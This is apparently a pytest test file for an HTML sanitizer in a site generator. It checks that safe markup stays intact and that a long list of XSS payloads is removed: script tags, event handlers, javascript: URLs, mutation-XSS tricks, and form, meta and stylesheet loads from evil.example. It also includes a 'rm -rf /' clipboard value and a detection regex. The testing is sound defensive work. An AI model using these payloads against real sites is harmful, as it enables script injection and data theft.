"""The safe list of HTML: what could run, load, overlay or ask is gone; what a story is made of stays."""

from __future__ import annotations

import re

import pytest

from generator.publish.errors import TooSlowError
from generator.publish.html.cleaning import END_OF_TEXT, clean, plain_title

SAFE = (
    '<p>She <em>left</em> <a href="../people/ada/">Ada</a> &amp; <a href="https://example.org/?a=1&amp;b=2">him</a>.</p>',
    '<h2 id="the-launch">The launch<a class="headerlink" href="#the-launch" title="Link">¶</a></h2>',
    '<div class="admonition note"><p class="admonition-title">Note</p></div>',
    '<details class="info"><summary>More</summary><p>x</p></details>',
    '<table><thead><tr><th style="text-align:right">n</th></tr></thead></table>',
    '<img alt="The pad" src="../../images/pad.jpg" width="10" height="10" loading="lazy">',
    '<figure><img alt="" src="a.png"><figcaption>x</figcaption></figure>',
    '<div class="footnote"><ol><li id="fn:1">x<a class="footnote-backref" href="#fnref:1">↩</a></li></ol></div>',
    '<ul class="task-list"><li class="task-list-item"><label class="task-list-control">'
    '<input type="checkbox" disabled="" checked="" aria-label="done"><span class="task-list-indicator"></span></label>'
    " x</li></ul>",
    '<div class="tabbed-set tabbed-alternate" data-tabs="1:2"><input checked="" id="__tabbed_1_1" name="__tabbed_1" '
    'type="radio"><div class="tabbed-labels"><label for="__tabbed_1_1">A</label></div></div>',
    '<div class="highlight"><pre><code><span class="k">if</span></code></pre></div>',
    '<svg viewBox="0 0 9 9" role="img" class="line"><title>Career</title><rect x="1" y="2" width="3" height="4">'
    '</rect><text text-anchor="middle">2018</text><a href="../x/"><circle cx="1" cy="1" r="1"></circle></a></svg>',
    '<time datetime="2031-03">March 2031</time><abbr title="x">y</abbr><del>z</del><kbd>k</kbd>',
)


@pytest.mark.parametrize("html", SAFE)
def test_what_pages_are_made_of_stays_as_it_is(html: str) -> None:
    assert clean(html).replace("<tbody></tbody>", "") == html


@pytest.mark.parametrize(
    ("box", "name"),
    [
        ('<input type="checkbox" disabled/>', "to do"),
        ('<input type="checkbox" disabled checked/>', "done"),
        ("<input checked type=checkbox>", "done"),
        ('<input type="checkbox" aria-label="Hers">', "Hers"),
    ],
)
def test_a_box_of_a_task_list_has_a_name(box: str, name: str) -> None:
    made = clean(box)
    assert made.count(f'aria-label="{name}"') == made.count("aria-label") == 1
    assert clean(made) == made


ATTACKS = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x OnErRoR = 'alert(1)'>",
    "<svg onload=alert(1)><g/onload=alert(2)></svg>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><animate attributeName="href" values="javascript:alert(1)"/><set attributeName=onload to=alert(1) /></svg>',
    '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"></use><foreignObject><p>x</foreignObject></svg>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="java&#x09;script:alert(1)">x</a>',
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href=" &#14; javascript:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a xlink:href="javascript:alert(1)">x</a>',
    '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<iframe src=javascript:alert(1)></iframe>",
    '<object data="x.swf"></object><embed src="x.swf">',
    '<form action="https://evil.example"><input name=password><button>x</button></form>',
    '<button formaction="javascript:alert(1)">x</button>',
    '<isindex action="javascript:alert(1)">',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    "<style>@import 'https://evil.example/x.css';</style>",
    '<div style="position:fixed;inset:0;background:url(https://evil.example)">x</div>',
    '<td style="text-align:center;position:fixed">x</td>',
    "<video src=x onerror=alert(1)></video><audio src=x onerror=alert(1)></audio>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>"></svg>',
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<template><img src=x onerror=alert(1)></template>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<details ontoggle=alert(1) open>x</details>",
    "<input autofocus onfocus=alert(1)>",
    '<p onclick="alert(1)" class="x">x</p>',
    '<label class="md-overlay" for="__drawer">x</label>',
    '<input id="__search"><div id="__config">{}</div><a id="on-a-day-data"></a><img name="body">',
    '<pre class="mermaid"><code>graph TD</code></pre>',
    '<b data-clipboard-text="rm -rf /" data-copy="x" data-preview>x</b>',
    '<div data-md-component="search" data-md-toggle="drawer">x</div>',
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    '<picture><source srcset="https://evil.example/x.png"><img srcset="https://evil.example/y.png 2x"></picture>',
    '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    '<a href="//evil.example" ping="https://evil.example/log" target="_blank">x</a>',
)
# What no cleaned page may hold, as tags and attributes; in text it is harmless.
FORBIDDEN = re.compile(
    r"""<(script|style|iframe|object|embed|form|button|base|meta|link|video|audio|source|template|noscript|math|textarea
    |animate|set|foreignobject)\b
    |<[^>]*\s(on\w+|srcset|srcdoc|ping|target|formaction|action|autofocus|data-(md|copy|clipboard|preview)[\w-]*)=
    |<[^>]*\s(href|src)="\s*(javascript|vbscript|data):
    |<[^>]*(position:|md-overlay|"__search"|"__config"|"__drawer"|"on-a-day-data"|"body"|mermaid)""",
    re.VERBOSE | re.IGNORECASE,
)


@pytest.mark.parametrize("html", ATTACKS)
def test_what_could_harm_is_gone(html: str) -> None:
    assert not FORBIDDEN.search(clean(html)), clean(html)
    once = clean(html)
    assert clean(once) == once


@pytest.mark.parametrize("place", ["location", "images", "body", "__init__", "on-a-day", "search"])
def test_headings_keep_their_places(place: str) -> None:
    assert f'id="{place}"' in clean(f'<h2 id="{place}">A heading</h2>')


LEFT_OPEN = (
    *("<div hidden>", "<b>", "<table><tr>", "<svg><desc>", "<select>", "<style>", "<!--", "<p title='"),
    *('<div><a href="https://evil.example/"></div>', "<form><math><mtext></form>"),
)


@pytest.mark.parametrize("text", LEFT_OPEN)
def test_what_a_text_leaves_open_ends_with_it(text: str) -> None:
    after = '<h2 id="corrections">Corrections</h2>'
    assert clean(f"{text}{END_OF_TEXT}{after}").endswith(after)
    assert not clean(f"{text}{END_OF_TEXT}{after}").endswith(f"hidden>{after}")


def test_more_than_anybody_would_read_is_not_cleaned() -> None:
    with pytest.raises(TooSlowError):
        clean("&amp;" * 1_000_000)


def test_the_text_of_what_is_taken_out_stays() -> None:
    assert clean("<p>a <blink>b</blink> c</p>") == "<p>a b c</p>"


@pytest.mark.parametrize(
    ("title", "shown"),
    [
        ("The launch", "The launch"),
        ("C&amp;A &lt;b&gt;", "C&amp;A &lt;b&gt;"),
        ("<em>The</em> <code>x</code>", "The x"),
        ("a &quot;b&quot;", "a &quot;b&quot;"),
        ("<img src=x onerror=alert(1)>x", "x"),
        ("1 < 2", "1 &lt; 2"),
    ],
)
def test_titles_of_menus_are_escaped_text(title: str, shown: str) -> None:
    assert plain_title(title) == shown


@pytest.mark.parametrize("paint", ["url(//evil.example/x)", "URL(https://evil.example/#a)", r"u\72l(//evil.example/x)"])
def test_paint_is_never_asked_of_another_host(paint: str) -> None:
    assert clean(f'<svg><rect fill="{paint}" stroke="{paint}"></rect></svg>') == "<svg><rect></rect></svg>"


@pytest.mark.parametrize("paint", ["currentColor", "#1c4a8a", "url(#stripes)", "rgb(1, 2, 3)", "none"])
def test_paint_of_the_page_itself_stays(paint: str) -> None:
    drawn = f'<svg><rect fill="{paint}"></rect></svg>'
    assert clean(drawn) == drawn
